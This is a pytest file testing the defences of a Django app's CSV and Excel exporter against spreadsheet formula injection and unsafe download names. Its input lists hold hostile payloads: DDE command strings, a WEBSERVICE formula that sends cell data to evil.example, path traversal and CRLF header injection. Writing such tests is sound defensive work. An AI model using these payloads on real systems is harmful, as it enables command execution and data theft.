"""Exports: nothing that is written turns into something else, and what was written can be read again."""

import csv
import datetime as dt
import io
import tempfile
import tracemalloc
import zipfile
from collections.abc import Iterator, Sequence
from decimal import Decimal
from typing import Any

import openpyxl
import pytest
from django.utils.translation import gettext_lazy
from hypothesis import given
from hypothesis import strategies as st

from skillmap.core.tabular.cells import CellValue, clean, escape, looks_like_formula, plain, unescape
from skillmap.core.tabular.columns import Column, Kind
from skillmap.core.tabular.filenames import content_disposition, download_name
from skillmap.core.tabular.problems import RowProblem
from skillmap.core.tabular.reading import read_table
from skillmap.core.tabular.report import problem_table
from skillmap.core.tabular.template import write_template
from skillmap.core.tabular.writing import Book, Form, Out, Table, notes_for, purpose_note, write_csv, write_xlsx

MADE = dt.datetime(2026, 4, 1, 5, 2, tzinfo=dt.UTC)
FORMULAS = [
    "=1+1",
    '=HYPERLINK("http://evil.example","click")',
    "=cmd|'/c calc'!A0",
    '=WEBSERVICE("http://evil.example/?"&A1)',
    '=IMPORTXML(CONCAT("http://evil.example",A1),"//a")',
    '=DDE("cmd","/c calc","x")',
    "='file://host/[x.xlsx]Sheet1'!A1",
    "{=1+1}",
    "+1+1",
    "+cmd|'/c calc'!A0",
    "-1+1",
    "-2+3+cmd|'/c calc'!A0",
    "@SUM(1+1)*cmd|'/c calc'!A0",
    "@A1",
    "\t=1+1",
    "\r=1+1",
    "\n=1+1",
    "\r\n=1+1",
    " =1+1",
    "　=1+1",
    "\u00a0=1+1",
    "\u200b=1+1",
    "\ufeff=1+1",
    "＝1+1",
    "＋1+1",
    "－1+1",
    "＠SUM(1)",
    "\x00=1+1",
    "\x0b=1+1",
    "'=1+1",
    "''=1+1",
    "=",
    "-",
    "\t",
    '=1+1",=2+2,"',
    "a\r\n=1+1",
    '<r></r></is></c><c r="B2"><f>1+1</f></c><c r="C2" t="inlineStr"><is><r></r>',
]
DANGEROUS = tuple("=+-@＝＋－＠\t\r\n")


def local(hour: int, minute: int) -> dt.datetime:
    """A moment of the first of April as cells hold it: without a zone."""
    return dt.datetime.combine(dt.date(2026, 4, 1), dt.time(hour, minute))


def table_of(values: Sequence[CellValue], **options: Any) -> Table:
    """One column with these values."""
    return Table(**{"name": "表", "columns": [Out("値")], "rows": [[value] for value in values], **options})


def xlsx_of(*tables: Table) -> bytes:
    target = io.BytesIO()
    write_xlsx(tables, target, made_at=MADE)
    return target.getvalue()


def csv_of(table: Table) -> str:
    return b"".join(write_csv(table)).decode("utf-8-sig")


def values_in(data: bytes) -> list[Any]:
    """The cells of the first column, as another library reads them."""
    sheet = openpyxl.load_workbook(io.BytesIO(data)).worksheets[0]
    return [sheet.cell(row, 1) for row in range(2, sheet.max_row + 1)]


# ---------------------------------------------------------------------------------------------------- formulas


@pytest.mark.parametrize("text", FORMULAS, ids=ascii)
def test_no_text_becomes_a_formula_in_a_workbook(text: str) -> None:
    data = xlsx_of(Table(name=text, columns=[Out(text)], rows=[[text]], notes=[text]))
    book = openpyxl.load_workbook(io.BytesIO(data))
    cells = [cell for sheet in book.worksheets for row in sheet.iter_rows() for cell in row if cell.value is not None]
    assert cells
    assert {cell.data_type for cell in cells} <= {"s", "inlineStr"}
    assert not any(cell.hyperlink for cell in cells)
    with zipfile.ZipFile(io.BytesIO(data)) as container:
        assert b"<f>" not in container.read("xl/worksheets/sheet1.xml")
    written = [cell for cell in cells if looks_like_formula(str(cell.value))]
    assert all(cell.quotePrefix for cell in written)


ANY_TEXT = st.text(st.characters(exclude_categories=["Cs"]), max_size=12) | st.text(
    '<r>/&"_x0041 =\n\u3000a', max_size=30
)
ANY_VALUE: st.SearchStrategy[CellValue] = st.one_of(
    ANY_TEXT,
    st.integers(-3, 3),
    st.integers(),
    st.booleans(),
    st.floats(),
    st.decimals(allow_nan=False),
    st.dates(dt.date(1890, 1, 1)),
    st.datetimes(local(0, 0), timezones=st.sampled_from([None, dt.UTC])),
    st.none(),
    st.sampled_from([*FORMULAS, "<r>a</r>", " a", "a ", "𠮷" * 20_000, "_x000D_", gettext_lazy("Name"), 1.0, True]),
)


@given(st.lists(st.tuples(ANY_VALUE, ANY_VALUE), max_size=8), st.sampled_from(Form))
def test_rows_are_written_as_cell_by_cell(rows: list[tuple[CellValue, CellValue]], form: Form) -> None:
    """The short way of `Book.add` and the writer's own come to the same bytes."""
    whole, single = io.BytesIO(), io.BytesIO()
    columns = [Out("a", form), Out("b")]
    with Book(whole, made_at=MADE) as book:
        book.add(Table(name="x", columns=columns, rows=rows))
    with Book(single, made_at=MADE) as book:
        sheet = book.add(Table(name="x", columns=columns, rows=[]))
        for number, row in enumerate(rows, start=1):
            for index, value in enumerate(row):
                book.write(sheet, number, index, value, columns[index].form)
    parts = ("xl/worksheets/sheet1.xml", "xl/styles.xml")
    with zipfile.ZipFile(whole) as left, zipfile.ZipFile(single) as right:
        for part in parts:
            assert left.read(part) == right.read(part)


@pytest.mark.parametrize("text", FORMULAS, ids=ascii)
def test_no_text_becomes_a_formula_in_a_template(text: str) -> None:
    target = io.BytesIO()
    columns = [Column(key="a", headers=[text])]
    write_template(columns, [{"a": text}], {}, target, name=text, notes=[text], made_at=MADE)
    with zipfile.ZipFile(target) as container:
        sheet = container.read("xl/worksheets/sheet1.xml")
    assert b"<f>" not in sheet
    assert b"<r>" not in sheet


@pytest.mark.parametrize("text", FORMULAS, ids=ascii)
def test_no_text_becomes_a_formula_in_csv(text: str) -> None:
    written = csv_of(Table(name="x", columns=[Out(text), Out("b")], rows=[[text, text]], notes=[text]))
    cells = [cell for row in csv.reader(io.StringIO(written, newline=""), strict=True) for cell in row]
    assert len([cell for cell in cells if cell]) >= 4
    assert not any(cell.startswith(DANGEROUS) for cell in cells)
    assert not any(cell.lstrip("\u200b\ufeff \u3000\u00a0").startswith(DANGEROUS) for cell in cells)


@given(st.text(alphabet=st.sampled_from("='+-@ \t\r\n＝＠a1　\u200b")))
def test_what_is_escaped_can_be_unescaped(text: str) -> None:
    escaped = escape(text)
    assert unescape(escaped) == text
    assert not looks_like_formula(escaped)


def test_plain_text_stays_as_it_is() -> None:
    for text in ("山田", "'引用'", "a=b", "1-2", "", "○", "'"):
        assert escape(text) == text


# ------------------------------------------------------------------------------------------------------- cells


@pytest.mark.parametrize(
    ("value", "expected"),
    [
        ("a\x00b\x0bc\x1fd\x7fe", "abcde"),
        ("a\ud800b\ufffeb\uffff", "abb"),
        ("a\r\nb\rc", "a\nb\nc"),
        ("𠮷葛\U000e0100髙﨑〜", "𠮷葛\U000e0100髙﨑〜"),
        (gettext_lazy("untranslated words"), "untranslated words"),
        (10**15, "1000000000000000"),
        (10**15 - 1, 10**15 - 1),
        (float("nan"), None),
        (float("inf"), None),
        (Decimal("1.50"), 1.5),
        (Decimal("NaN"), None),
        (True, True),
        (None, None),
        (dt.date(1899, 1, 1), "1899-01-01"),
        (dt.date(2026, 4, 1), dt.date(2026, 4, 1)),
        (dt.datetime(2026, 3, 31, 15, 0, 0, 5, tzinfo=dt.UTC), local(0, 0)),
    ],
)
def test_values_of_cells(value: Any, expected: Any) -> None:
    assert plain(value) == expected


def test_one_odd_value_does_not_spoil_the_export() -> None:
    """Control characters, lone surrogates and endless notes are mended, each in its own cell."""
    values: list[CellValue] = ["\x0b", "a\ud800b", "あ" * 40_000, float("nan"), 10**30, "ok"]
    cells = values_in(xlsx_of(table_of(values)))
    assert [cell.value for cell in cells][1] == "ab"
    assert len(cells[2].value) == 32_767
    assert cells[2].value.endswith("…")
    assert cells[-1].value == "ok"
    assert "ok" in csv_of(table_of(values))
    assert clean("x" * 32_767) == "x" * 32_767


def test_kinds_of_cells() -> None:
    columns = [
        Out("名"),
        Out("人数", Form.INTEGER),
        Out("レベル", Form.LEVEL),
        Out("割合", Form.PERCENT),
        Out("日", Form.DATE),
        Out("時刻", Form.TIME),
        Out("可否"),
        Out("空"),
        Out("数", Form.DECIMAL),
        Out("番号"),
    ]
    moment = dt.datetime(2026, 3, 31, 15, 30, tzinfo=dt.UTC)
    row: list[CellValue] = ["A", 1200, 0, 0.25, dt.date(2026, 4, 1), moment, True, None, Decimal("1.5"), "0012"]
    table = Table(name="表", columns=columns, rows=[row])
    sheet = openpyxl.load_workbook(io.BytesIO(xlsx_of(table))).worksheets[0]
    cells = next(iter(sheet.iter_rows(min_row=2)))
    assert [cell.value for cell in cells] == [
        "A", 1200, 0, 0.25, local(0, 0), local(0, 30), "○", None, 1.5, "0012",
    ]  # fmt: skip
    assert cells[2].data_type == "n"
    assert [cells[index].number_format for index in (1, 3, 4)] == ["#,##0", "0.0%", "yyyy-mm-dd"]
    assert csv_of(table).splitlines()[1] == "A,1200,0,0.25,2026-04-01,2026-04-01 00:30:00,○,,1.5,0012"


# ------------------------------------------------------------------------------------------------------- files


def test_a_workbook_says_nothing_about_who_made_it() -> None:
    people = Table(name="職員", columns=[Out("a")], rows=[["http://example.jp"], ["mailto:a@example.jp"]], notes=["注"])
    data = xlsx_of(people, table_of(["x"]))
    book = openpyxl.load_workbook(io.BytesIO(data))
    assert not book.properties.creator
    assert not book.properties.lastModifiedBy
    assert not book.defined_names
    assert {sheet.sheet_state for sheet in book.worksheets} == {"visible"}
    for sheet in book.worksheets:
        assert not sheet.defined_names
        assert not any(cell.comment or cell.hyperlink for row in sheet.iter_rows() for cell in row)
    with zipfile.ZipFile(io.BytesIO(data)) as container:
        assert not [name for name in container.namelist() if "external" in name.lower() or "vba" in name.lower()]


def test_the_heading_row_is_frozen_below_the_notes() -> None:
    notes = notes_for(made_at=MADE, filters={"局": "総務局", "空": "", "なし": None}, more=["第3版"])
    table = Table(name="表", columns=[Out("氏名"), Out("備考", width=40)], rows=[["A", "b"]], notes=notes)
    sheet = openpyxl.load_workbook(io.BytesIO(xlsx_of(table))).worksheets[0]
    assert sheet["A1"].value == purpose_note()
    assert "2026-04-01 14:02" in sheet["A2"].value
    assert "局=総務局" in sheet["A3"].value
    assert "空" not in sheet["A3"].value
    assert sheet["A4"].value == "第3版"
    assert [cell.value for cell in sheet[6]] == ["氏名", "備考"]
    assert sheet.freeze_panes == "A7"
    assert sheet.column_dimensions["B"].width > 40
    assert csv_of(table).startswith(purpose_note() + "\r\n")


def test_the_same_rows_give_the_same_bytes() -> None:
    assert xlsx_of(table_of(["a", 1])) == xlsx_of(table_of(["a", 1]))


@pytest.mark.parametrize(
    ("name", "expected"),
    [
        ("a/b:c*d?[e]\\f", "a b c d  e  f"),
        ("", "Sheet"),
        ("'", "Sheet"),
        ("History", "History (2)"),
        ("あ" * 40, "あ" * 31),
    ],
)
def test_names_of_sheets(name: str, expected: str) -> None:
    assert openpyxl.load_workbook(io.BytesIO(xlsx_of(table_of([1], name=name)))).sheetnames == [expected]


def test_names_of_sheets_are_told_apart() -> None:
    book = openpyxl.load_workbook(io.BytesIO(xlsx_of(*[table_of([1], name="Same") for _ in range(3)])))
    assert book.sheetnames == ["Same", "Same (2)", "Same (3)"]


def test_csv_comes_in_pieces() -> None:
    def rows() -> Iterator[list[CellValue]]:
        for number in range(1200):
            taken.append(number)
            yield [number]

    taken: list[int] = []
    pieces = write_csv(Table(name="x", columns=[Out("n")], rows=rows()))
    first = next(pieces)
    assert first.startswith(b"\xef\xbb\xbf")
    assert len(taken) == 500
    assert (first + b"".join(pieces)).count(b"\r\n") == 1201


def peak_of(rows: int) -> int:
    """Peak of Python's memory in bytes while writing a workbook of 30 columns."""
    values: list[CellValue] = ["山田 太郎", 2, dt.date(2026, 4, 1)] * 10
    table = Table(name="x", columns=[Out(f"c{index}") for index in range(30)], rows=(values for _ in range(rows)))
    with tempfile.TemporaryFile() as target:
        tracemalloc.start()
        try:
            write_xlsx([table], target, made_at=MADE)
            return tracemalloc.get_traced_memory()[1]
        finally:
            tracemalloc.stop()


def test_memory_stays_flat() -> None:
    peak_of(10)  # what is loaded once
    assert peak_of(2_000) < peak_of(500) + 300_000


# ------------------------------------------------------------------------------------------------- round trips

LEVELS = [Column(key=f"s{n}", headers=[f"項目{n}"], kind=Kind.LEVEL) for n in range(1, 23)]
PEOPLE = [
    Column(key="number", headers=["職員番号"], kind=Kind.CODE, digits=8, required=True),
    Column(key="name", headers=["氏名"], required=True),
    Column(key="note", headers=["備考"], multiline=True, max_length=1000),
    Column(key="hired", headers=["採用日"], kind=Kind.DATE),
    *LEVELS,
]
NAMES = [
    "髙橋 一郎",
    "﨑山　花子",
    "𠮷田",
    "葛\U000e0100城",
    "邉〜辺",
    "=SUM(A1)",
    "'=x",
    "－",
    "@home",
    '渡辺 "太"',
    "a,b;c",
]


def people(count: int) -> list[list[CellValue]]:
    """Made-up people with everything that has been known to change on its way."""
    return [
        [
            f"{number:08d}",
            NAMES[number % len(NAMES)],
            ["", "一行目\n=二行目", "\u3042\u3099〜", "'"][number % 4] or None,
            dt.date(2000, 1, 1) + dt.timedelta(days=number),
            *[(number * skill) % 5 if (number * skill) % 5 < 4 else None for skill in range(1, 23)],
        ]
        for number in range(count)
    ]


def as_table(rows: Sequence[Sequence[CellValue]]) -> Table:
    forms = {Kind.DATE: Form.DATE, Kind.LEVEL: Form.LEVEL}
    columns = [Out(column.label, forms.get(column.kind, Form.TEXT)) for column in PEOPLE]
    return Table(name="職員", columns=columns, rows=rows, notes=notes_for(made_at=MADE))


@pytest.mark.parametrize("kind", ["csv", "xlsx"])
def test_export_import_export(kind: str) -> None:
    """10,000 people out, in, and out again: the second file is the first."""

    def export(rows: Sequence[Sequence[CellValue]]) -> bytes:
        return b"".join(write_csv(as_table(rows))) if kind == "csv" else xlsx_of(as_table(rows))

    first = export(people(10_000))
    reading = read_table(first, f"people.{kind}", columns=PEOPLE, unique=[["number"]])
    assert reading.ok
    assert not reading.notices
    assert len(reading.rows) == 10_000
    assert export([[row.values[column.key] for column in PEOPLE] for row in reading.rows]) == first


def test_the_report_of_problems_in_both_forms() -> None:
    problems = [
        RowProblem(row=9, column="=氏名", code="required", position=1),
        RowProblem(row=3, column="", code="extra_cells", params={"found": 3, "expected": 2}),
    ]
    table = problem_table(problems, total=5, filename="=list.csv")
    sheet = openpyxl.load_workbook(io.BytesIO(xlsx_of(table))).worksheets[0]
    rows = [[cell.value for cell in row] for row in sheet.iter_rows()]
    assert [row[0] for row in rows if isinstance(row[0], int)] == [3, 9]
    assert "'=氏名" in csv_of(problem_table(problems, total=5))


# --------------------------------------------------------------------------------------------------- templates

HINT = "予算事業の名称を入力してください。"
SKILLS = {"cloud": ["クラウド活用"], "ux": ["UXデザイン"]}
DEMAND = [
    Column(key="business", headers=["事業名"], required=True, max_length=100, hint=HINT),
    Column(key="skill", headers=["スキル項目"], kind=Kind.CHOICE, required=True, choices=SKILLS),
    Column(key="level", headers=["レベル"], kind=Kind.LEVEL, minimum=1, required=True),
    Column(key="people", headers=["人数"], kind=Kind.INTEGER, minimum=1, maximum=999, suffixes=["人"]),
    Column(key="since", headers=["必要時期"], kind=Kind.DATE, earliest=dt.date(2026, 4, 1)),
    Column(key="phase", headers=["段階"]),
    Column(key="outside", headers=["外部委託"], kind=Kind.BOOLEAN),
]  # fmt: skip


def template(**options: Any) -> bytes:
    target = io.BytesIO()
    rows: list[dict[str, CellValue]] = [
        {
            "business": "=昨年度の事業",
            "skill": "クラウド活用",
            "level": 2,
            "people": 3,
            "since": dt.date(2026, 4, 1),
            "outside": True,
        }
    ]
    lists = {"phase": ["企画", "運用"]}
    write_template(
        DEMAND, rows, lists, target, **{"name": "需要調査", "notes": ["記入方法"], "made_at": MADE, **options}
    )
    return target.getvalue()


def test_a_template_offers_lists_and_says_what_is_required() -> None:
    book = openpyxl.load_workbook(io.BytesIO(template()))
    sheet, choices = book.worksheets
    assert {worksheet.sheet_state for worksheet in book.worksheets} == {"visible"}
    assert not book.defined_names
    assert sheet["A1"].value == "記入方法"
    header = [str(cell.value) for cell in sheet[3]]
    assert [text.startswith(column.label) for text, column in zip(header, DEMAND, strict=True)] == [True] * 7
    assert [text != column.label for text, column in zip(header, DEMAND, strict=True)] == [c.required for c in DEMAND]
    rules = {str(rule.sqref).split(":")[0]: rule for rule in sheet.data_validations.dataValidation}
    assert {place: rule.type for place, rule in rules.items()} == {
        "A4": "textLength", "B4": "list", "C4": "list", "D4": "whole", "E4": "date", "F4": "list", "G4": "list",
    }  # fmt: skip
    assert rules["C4"].formula1 == '"1,2,3"'
    assert rules["B4"].formula1 == f"'{choices.title}'!$A$2:$A$3"
    assert rules["A4"].prompt == HINT
    assert [cell.value for cell in choices["A"]] == ["スキル項目", "クラウド活用", "UXデザイン"]
    assert sheet["A4"].data_type in {"s", "inlineStr"}
    assert str(rules["F4"].sqref) == "F4:F304"


def test_a_template_comes_back() -> None:
    """Filled in by another program, the template is read with the columns it was made from."""
    book = openpyxl.load_workbook(io.BytesIO(template()))
    book["需要調査"].append(["新規事業", "UXデザイン", 1, "２人", "R8.10.1", "企画", "×"])
    target = io.BytesIO()
    book.save(target)
    reading = read_table(target.getvalue(), "demand.xlsx", columns=DEMAND, sheets=["需要調査"])
    assert reading.ok
    assert [list(row.values.values()) for row in reading.rows] == [
        ["=昨年度の事業", "cloud", 2, 3, dt.date(2026, 4, 1), None, True],
        ["新規事業", "ux", 1, 2, dt.date(2026, 10, 1), "企画", False],
    ]


def test_an_empty_template_has_no_rows() -> None:
    target = io.BytesIO()
    write_template(DEMAND[:1], [], {}, target, name="表", made_at=MADE)
    book = openpyxl.load_workbook(io.BytesIO(target.getvalue()))
    assert len(book.worksheets) == 1
    assert book.worksheets[0].max_row == 1


# -------------------------------------------------------------------------------------------------- file names


def test_names_of_downloads() -> None:
    assert (
        download_name("需給分析", "2024年度", "", None, ending="xlsx", made_at=MADE)
        == "需給分析_2024年度_20260401-1402.xlsx"
    )
    assert download_name("../../etc/passwd", ending="csv") == "etc_passwd.csv"
    assert download_name("a\r\nb\x00\u202ec", ending="csv") == "a_b_c.csv"
    assert download_name("...", ending="csv") == "table.csv"
    assert len(download_name("あ" * 500, ending="csv")) < 120


@pytest.mark.parametrize(
    "name", ["a.csv", "需給 分析.xlsx", 'a"; filename=evil.exe.csv', "a\r\nSet-Cookie: x=1.csv", "100%.csv"]
)
def test_the_header_that_names_a_download(name: str) -> None:
    header = content_disposition(name)
    assert header.isascii()
    assert "\r" not in header
    assert "\n" not in header
    assert header.startswith('attachment; filename="')
    assert header.count('"') == 2
    assert header.count(";") == 2
    assert "; filename*=UTF-8''" in header


def test_the_header_carries_the_name() -> None:
    from urllib.parse import unquote

    header = content_disposition("需給分析.xlsx")
    assert unquote(header.split("UTF-8''")[1]) == "需給分析.xlsx"
    assert 'filename="table.xlsx"' in header
